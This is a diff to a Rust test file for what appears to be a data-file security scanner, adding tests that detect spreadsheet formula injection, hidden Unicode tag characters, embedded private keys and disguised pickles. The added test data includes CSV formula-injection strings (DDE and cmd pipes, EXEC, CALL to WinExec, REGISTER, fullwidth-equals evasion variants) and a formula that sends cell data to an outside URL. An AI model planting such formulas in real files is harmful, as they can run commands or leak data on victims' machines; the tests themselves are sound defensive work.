@@ -36,6 +36,10 @@ fn formulas_that_run_are_told() {
         "=DDE(\"cmd\",\"/C echo lanner\",\"x\")",
         "=WEBSERVICE(\"https://example.com/\"&A1)",
         "=2+5+cmd|'/C echo lanner'!A0",
+        "\u{ff1d}cmd|'/C echo lanner'!A0",
+        "=EXEC(\"echo lanner\")",
+        "=CALL(\"Kernel32\",\"WinExec\",\"JCJ\")",
+        "\u{ff1d}REGISTER(\"lanner\")",
         "=MSEXCEL|'..\\..\\cmd.exe'!''",
     ] {
         let report = report(format!("name,note\nada,{cell}\n").as_bytes(), "a.csv");
@@ -56,7 +60,8 @@ fn lines_hide_neither_pickles_nor_characters() {
     assert!(!list(&escaped, "artifact.hidden_unicode").is_empty(), "{escaped:?}");
     let shown = report("name\nada\u{e0041}\u{e0042}\n".as_bytes(), "a.csv");
     assert_eq!(list(&shown, "artifact.hidden_unicode"), ["tags@line 2"]);
-    let far = format!("{}ada,-----BEGIN PRIVATE KEY-----\n", "x,1\n".repeat(200_000));
+    let key = "MIIEowIBAAKCAQEAz7Zl0tq1Y3c1mJp0m2cEXb8nQv5s";
+    let far = format!("{}ada,-----BEGIN PRIVATE KEY-----\\n{key}\n", "x,1\n".repeat(200_000));
     assert_eq!(list(&report(far.as_bytes(), "a.csv"), "artifact.secrets"), ["private_key@line 200001"]);
 }
 
@@ -65,4 +70,13 @@ fn a_pickle_by_another_name_is_still_one() {
     let report = report(&build::pickle_os_system(), "a.csv");
     assert_eq!(report.format, "pickle");
     assert!(report.facts.contains_key("artifact.extension_mismatch"));
+}
+
+#[test]
+fn links_made_of_cells_start_nothing() {
+    for cell in ["=HYPERLINK(\"https://example.com/?id=\"&A2,\"x\")", "=IMAGE(\"https://example.com/\"&A2)"] {
+        let report = report(format!("name,note\nada,{cell}\n").as_bytes(), "a.csv");
+        assert!(list(&report, FORMULAS).is_empty(), "{cell}: {report:?}");
+        assert_eq!(list(&report, "artifact.dataset.links").len(), 1, "{cell}: {report:?}");
+    }
 }
